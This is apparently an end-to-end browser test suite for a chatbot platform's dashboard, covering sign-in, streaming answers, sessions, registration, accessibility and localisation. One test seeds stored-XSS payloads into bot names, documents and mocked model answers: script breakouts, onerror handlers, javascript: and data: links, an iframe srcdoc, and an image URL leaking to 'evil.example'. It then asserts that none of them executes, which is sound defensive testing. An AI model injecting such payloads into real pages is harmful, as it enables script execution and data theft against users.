import { afterAll, afterEach, beforeAll, describe, expect, test } from '@jest/globals';
import { readFile } from 'node:fs/promises';
import { join } from 'node:path';
import type { Browser, BrowserContextOptions } from 'playwright-core';
import { hasBrowser, startBrowser } from '../helpers/browser.js';
import { script } from '../helpers/double.js';
import { createGiven, data, platformUrl, unique, type Member } from '../helpers/given.js';
import { administrator } from '../helpers/platform.js';
import { createSignInCode } from './sign-in-code.js';
import { seriousFindings, untilInPage, visit, type Visit } from './visit.js';

const url = platformUrl();
const given = createGiven(url);
const attack = `</script>"><script>evil()</script><img src=x onerror=evil()>`;
const desk = { width: 1280, height: 800 };
const phone = { width: 375, height: 740 };

(hasBrowser ? describe : describe.skip)('the dashboard in a browser', () => {
  let browser: Browser;
  let me: Member;
  /** A bot that answers from one document, with what is on this machine; all about it is an attack. */
  let soup: { id: string };
  let opened: Visit[] = [];
  beforeAll(async () => {
    browser = await startBrowser();
    me = await given.owner();
    soup = await given.chatbot(me, {
      name: `${attack} ${unique()}`,
      description: attack,
      welcomeMessage: `${attack} [x](javascript:evil()) ![y](https://evil.example/?leak=1)`,
      model: { provider: 'local' },
    });
    const base = await given.knowledgeBase(me, soup.id, { name: `${attack} ${unique()}` });
    await given.documents(me, base.id, { 'page.md': `The canteen serves soup today. ${attack}` });
  }, 60_000);
  afterEach(async () => {
    for (const { context } of opened) await context.close();
    opened = [];
  });
  afterAll(() => browser?.close());

  const come = async (options: BrowserContextOptions = {}): Promise<Visit> => {
    const one = await visit(browser, url, options);
    opened.push(one);
    return one;
  };
  /** A window of somebody who is signed in. */
  const comeAs = async (member: Member, options: BrowserContextOptions = {}): Promise<Visit> => {
    const body = { username: member.user.username, password: member.password, cookie: true };
    const answer = await given.anonymous.post('/api/v1/auth/login', body);
    const [, value] = /nhost-session=([^;]+)/.exec(answer.headers.get('set-cookie') ?? '')!;
    const one = await come(options);
    const cookie = { name: 'nhost-session', value: value!, url, httpOnly: true, sameSite: 'Lax' } as const;
    await one.context.addCookies([cookie]);
    return one;
  };
  const nothingWrong = { ran: 0, elsewhere: [], errors: [] };

  test('from signing in over a new bot to an answer with its source', async () => {
    const { page, deeds, context } = await come();
    await page.goto(`${url}/bots?status=active`);
    await page.getByRole('heading', { name: 'Sign in' }).waitFor();
    expect(await page.getByText('Your session has ended.').count()).toBe(0);
    await page.getByLabel('Username or e-mail').fill(me.user.username);
    await page.getByLabel('Password', { exact: true }).fill('not the password');
    await page.keyboard.press('Enter');
    await page.getByText('The name or the password is wrong.').waitFor();
    await page.getByLabel('Password', { exact: true }).fill(me.password);
    await page.keyboard.press('Enter');

    // Back to where one wanted to go, with a session that no script can read.
    await page.getByRole('heading', { name: 'Bots', level: 1 }).waitFor();
    expect(page.url()).toBe(`${url}/bots?status=active`);
    expect(await page.evaluate('[document.cookie, JSON.stringify({ ...localStorage })]')).toEqual(['', '{}']);
    expect((await context.cookies()).map(({ name, httpOnly }) => [name, httpOnly])).toEqual([
      ['nhost-session', true],
    ]);

    const name = unique('Handbook');
    await page.goto(`${url}/bots`);
    await page.getByRole('button', { name: 'New bot' }).first().click();
    await page.getByRole('radio', { name: 'Document bot' }).click();
    await page.getByLabel('Name', { exact: true }).fill(name);
    await page.getByRole('button', { name: 'Create bot' }).click();
    await page.getByText('This bot has no documents yet').waitFor();
    expect(await page.title()).toBe(`${name}: Playground · Chatbots Platform`);

    const id = /bots\/(\w+)\//.exec(page.url())![1]!;
    const [base] = data(await me.client.get(`/api/v1/chatbots/${id}/knowledge-bases`));
    expect(base.name).toBe('Documents');
    data(await me.client.put(`/api/v1/chatbots/${id}`, { model: { provider: 'local' } }));
    await given.documents(me, base.id, {
      'guarantee.md':
        '# Guarantee\n\nThe guarantee lasts 24 months from the day of purchase. Keep the receipt.',
    });

    await page.getByLabel('Your message').fill('How long does the guarantee last?');
    await page.keyboard.press('Shift+Enter');
    await page.keyboard.press('Backspace');
    await page.keyboard.press('Enter');
    await page
      .getByRole('button', { name: /^Source 1: / })
      .first()
      .click();
    const drawer = page.getByRole('dialog', { name: 'Source 1' });
    expect(await drawer.locator('mark').innerText()).toContain('The guarantee lasts 24 months');
    await drawer.getByText('Documents').waitFor();
    await page.keyboard.press('Escape');
    await drawer.waitFor({ state: 'hidden' });

    await page.getByRole('button', { name: 'Good answer' }).click();
    await page.getByRole('button', { name: 'Good answer', pressed: true }).waitFor();

    // It is found again, after a new one was begun, and by its address.
    const conversation = page.url();
    expect(conversation).toMatch(/conversation=\w+$/);
    await page.getByRole('button', { name: 'New conversation' }).first().click();
    await page.getByRole('button', { name: /^How long does/ }).click();
    await page
      .getByRole('button', { name: /^Source 1: / })
      .first()
      .waitFor();
    expect(page.url()).toBe(conversation);
    await page.reload();
    await page.getByRole('button', { name: 'Good answer', pressed: true }).waitFor();
    expect(deeds).toEqual(nothingWrong);
  }, 60_000);

  test('an answer is shown while it is made, stopped, and gone on with where it was', async () => {
    const marker = unique('slowly');
    const text = Array.from({ length: 60 }, (_, number) => `word${number}`).join(' ');
    await script(marker, { text, paceMs: 40 });
    const bot = await given.chatbot(me, { model: { provider: 'openai', name: 'gpt-4o-mini' } });
    const { page, deeds } = await comeAs(me);
    await page.goto(`${url}/bots/${bot.id}/playground`);
    await page.getByLabel('Your message').fill(`Tell me ${marker}`);
    await page.getByRole('button', { name: 'Send' }).click();
    await page.getByText('word5', { exact: false }).waitFor();
    await page.getByRole('button', { name: 'Stop' }).click();
    await page.getByRole('button', { name: 'Show the rest' }).waitFor();
    expect(await page.getByText('word59', { exact: false }).count()).toBe(0);
    await page.getByRole('button', { name: 'Show the rest' }).click();
    await page.getByRole('button', { name: 'Good answer' }).waitFor();
    const shown = await page.locator('ol > li').last().innerText();
    expect(shown.match(/word\d+/g)).toEqual(text.split(' '));

    // Left while it is made, it is heard to its end by whoever comes back.
    await script(`again ${marker}`, { text, paceMs: 40 });
    await page.getByLabel('Your message').fill(`And again ${marker}`);
    await page.keyboard.press('Enter');
    await page.locator('ol > li').nth(3).getByText('word3', { exact: false }).waitFor();
    await page.reload();
    await page.locator('ol > li').nth(3).getByText('word59', { exact: false }).waitFor();
    expect(deeds).toEqual(nothingWrong);
  }, 60_000);

  test('stored XSS never executes: of names, documents, questions and Markdown answers', async () => {
    const { page, deeds } = await comeAs(me);
    await page.goto(`${url}/bots`);
    await page.getByRole('link', { name: '<script>evil()' }).click();
    await page.getByText('<img src=x onerror=evil()>', { exact: false }).first().waitFor();
    await page.getByLabel('Your message').fill(attack);
    await page.keyboard.press('Enter');
    await page.getByRole('button', { name: 'Good answer' }).waitFor();
    await page.getByLabel('Your message').fill('What does the canteen serve?');
    await page.keyboard.press('Enter');
    await page
      .getByRole('button', { name: /^Source 1: / })
      .first()
      .click();
    await page.getByRole('dialog').getByText('The canteen serves soup').first().waitFor();

    // A model that was talked into it: scripts, links and pictures that carry something away.
    const marker = unique('leak');
    const text = [
      `Here: ${attack}`,
      '[run](javascript:evil()) [data](data:text/html,<script>evil()</script>) [in](/api/v1/auth/logout)',
      `![picture](${url}/favicon.svg?leak) ![p](data:image/svg+xml;base64,PHN2Zy8+)`,
      '<iframe srcdoc="<script>parent.evil()</script>"></iframe>',
      '[fine](https://example.org/x)',
    ].join('\n\n');
    await script(marker, { text });
    const other = await given.chatbot(me, {
      model: { provider: 'openai', name: 'gpt-4o-mini' },
      links: { allow: 'any' },
    });
    await page.goto(`${url}/bots/${other.id}/playground`);
    await page.getByLabel('Your message').fill(marker);
    await page.keyboard.press('Enter');
    await page.getByRole('button', { name: 'Good answer' }).waitFor();
    const answer = page.locator('ol > li').last();
    expect(await answer.innerText()).toContain('<iframe srcdoc=');
    expect(await answer.locator('img, iframe, script').count()).toBe(0);
    const links = await answer
      .locator('a')
      .evaluateAll((found) => found.map((one) => [one.getAttribute('href'), one.getAttribute('rel')]));
    for (const [href, rel] of links)
      expect([/^https?:/.test(href), rel]).toEqual([true, 'noopener noreferrer nofollow']);
    expect(links.map(([href]) => href)).toContain('https://example.org/x');

    await page.goto(`${url}/sign-in?back=javascript:evil()&reason=${encodeURIComponent(attack)}`);
    await page.getByRole('button', { name: 'Sign in' }).waitFor();
    expect(deeds).toEqual(nothingWrong);
  }, 60_000);

  test('a session that has ended leads to signing in and back', async () => {
    const { page, deeds } = await comeAs(me);
    await page.goto(`${url}/bots?sort=name%3Aasc`);
    await page.getByRole('heading', { name: 'Bots', level: 1 }).waitFor();
    data(await me.client.delete('/api/v1/auth/sessions'));
    await page.getByRole('searchbox').fill('x');
    await page.getByText('Your session has ended.').waitFor();
    await page.getByLabel('Username or e-mail').fill(me.user.email);
    await page.getByLabel('Password', { exact: true }).fill(me.password);
    await page.keyboard.press('Enter');
    await page.getByRole('heading', { name: 'Bots', level: 1 }).waitFor();
    expect(page.url()).toContain('/bots?sort=name%3Aasc');

    await page.getByRole('button', { name: /^Account/ }).click();
    await page.getByRole('menuitem', { name: 'Sign out' }).click();
    await page.getByText('You are signed out.').waitFor();
    await page.goto(`${url}/bots`);
    await page.getByRole('button', { name: 'Sign in' }).waitFor();
    expect(deeds).toEqual(nothingWrong);
  }, 60_000);

  test('somebody new registers, sees what to do first, and deletes what they made', async () => {
    const username = unique('ada');
    const { page, deeds } = await come();
    await page.goto(url);
    await page.getByRole('link', { name: 'Register' }).click();
    await page.getByRole('heading', { name: 'Create your account' }).waitFor();
    expect(page.url()).toBe(`${url}/register`);
    await page.getByLabel('Username').fill(username);
    await page.getByLabel('E-mail').fill(`${username}@example.org`);
    await page.getByLabel('Password', { exact: true }).fill('correct horse battery');
    await page.getByRole('button', { name: 'Create account' }).click();
    await page.getByText('Make your first bot').waitFor();
    await page.keyboard.press('Control+k');
    await page.getByPlaceholder('Type the name of a bot or a page').fill('new b');
    await page.keyboard.press('Enter');
    await page.getByRole('button', { name: 'Create bot' }).click();
    await page.getByText('This bot has no documents yet').waitFor();
    await page.getByRole('link', { name: 'Bots', exact: true }).click();
    // Whoever comes from another page is told its title, and tabs on from there.
    await untilInPage(page, "document.activeElement?.tagName === 'H1'");
    await page.getByRole('button', { name: 'New bot' }).click();
    await page.getByRole('button', { name: 'Create bot' }).click();
    await page.getByText('There is a bot of this name already.').waitFor();
    await page.getByRole('button', { name: 'Cancel' }).click();
    await page.getByRole('button', { name: 'Actions for Support' }).click();
    await page.getByRole('menuitem', { name: 'Delete' }).click();
    const sure = page.getByRole('dialog').getByRole('button', { name: 'Delete' });
    expect(await sure.isDisabled()).toBe(true);
    await page.getByLabel('Type Support to confirm').fill('Support');
    await sure.click();
    await page.getByText('Make your first bot').waitFor();
    expect(deeds).toEqual(nothingWrong);
  }, 60_000);

  test('nothing keeps people with disabilities out, in the light and the dark, on a desk and a phone', async () => {
    const findings: Record<string, string[]> = {};
    /** A page in each of its looks. */
    const look = async (name: string, { page }: Visit): Promise<void> => {
      for (const viewport of [desk, phone])
        for (const colorScheme of ['light', 'dark'] as const) {
          await page.setViewportSize(viewport);
          await page.emulateMedia({ colorScheme, reducedMotion: 'reduce' });
          const found = await seriousFindings(page);
          const wider = await page.evaluate<number>('document.documentElement.scrollWidth - innerWidth');
          if (wider > 0) found.push(`${wider} pixels wider than the window`);
          if (found.length > 0) findings[`${name}, ${viewport.width} wide, ${colorScheme}`] = found;
        }
      await page.setViewportSize(desk);
    };
    const stranger = await come();
    for (const path of ['/sign-in', '/register', '/welcome']) {
      await stranger.page.goto(`${url}${path}`);
      await stranger.page.getByRole('heading', { level: 1 }).waitFor();
      await look(path, stranger);
    }
    const member = await comeAs(me);
    const { page } = member;
    await page.goto(`${url}/bots`);
    await page.getByRole('table').getByRole('link').first().waitFor();
    await look('bots', member);
    await page.getByRole('button', { name: /^Account/ }).click();
    await page.getByRole('menuitem', { name: 'Sign out' }).waitFor();
    await look('account', member);
    await page.keyboard.press('Escape');
    await page.getByRole('button', { name: 'New bot' }).click();
    await page.getByRole('button', { name: 'Create bot' }).waitFor();
    await look('a new bot', member);
    await page.goto(`${url}/bots/${soup.id}/playground`);
    await page.getByLabel('Your message').fill('What does the canteen serve?');
    await page.keyboard.press('Enter');
    await page.getByRole('button', { name: 'Good answer' }).waitFor();
    await look('playground', member);
    await page
      .getByRole('button', { name: /^Source 1: / })
      .first()
      .click();
    await page.getByRole('dialog').getByText('Knowledge base').waitFor();
    await look('a source', member);
    await page.goto(`${url}/nothing/here`);
    await page.getByRole('heading', { name: 'There is nothing here' }).waitFor();
    await look('nothing', member);
    expect(findings).toEqual({});
    expect([stranger.deeds, member.deeds]).toEqual([nothingWrong, nothingWrong]);
  }, 120_000);

  test('in German, every page is', async () => {
    const { page, deeds } = await comeAs(me, { locale: 'de-DE' });
    await page.goto(`${url}/bots`);
    await page.getByRole('button', { name: 'Neuer Bot' }).first().waitFor();
    expect(await page.evaluate('document.documentElement.lang')).toBe('de');
    expect(await page.title()).toBe('Bots · Chatbots Platform');
    await page.getByRole('button', { name: /^Konto/ }).click();
    await page.getByRole('menuitemradio', { name: 'English' }).click();
    await page.getByRole('button', { name: 'New bot' }).first().waitFor();
    await page.reload();
    await page.getByRole('button', { name: 'New bot' }).first().waitFor();
    expect(deeds).toEqual(nothingWrong);
  }, 60_000);

  test('the link of the terminal signs in once, and leaves nothing behind', async () => {
    const dataDir = process.env.TEST_PLATFORM_DATA!;
    const code = await createSignInCode(dataDir);
    const stored = await readFile(join(dataDir, 'sign-in-code.json'), 'utf8');
    expect(stored).not.toContain(code);
    const admin = await given.admin();
    const bot = data(await admin.post('/api/v1/chatbots', { name: unique('demo') }), 201);
    const { page, deeds } = await come();
    await page.goto(`${url}/welcome?bot=${bot.id}#${code}`);
    await page.getByLabel('Your message').waitFor();
    expect(page.url()).toBe(`${url}/bots/${bot.id}/playground`);
    expect(await page.evaluate('history.length')).toBeLessThanOrEqual(2);
    await page.getByRole('button', { name: `Account: ${administrator.username}` }).waitFor();

    // Whoever finds it later gets nowhere with it.
    const thief = await come();
    await thief.page.goto(`${url}/welcome?bot=${bot.id}#${code}`);
    await thief.page.getByText('This link does not open anything any more').waitFor();
    expect(thief.page.url()).toBe(`${url}/welcome`);
    expect([deeds, thief.deeds]).toEqual([nothingWrong, nothingWrong]);
  }, 60_000);
});
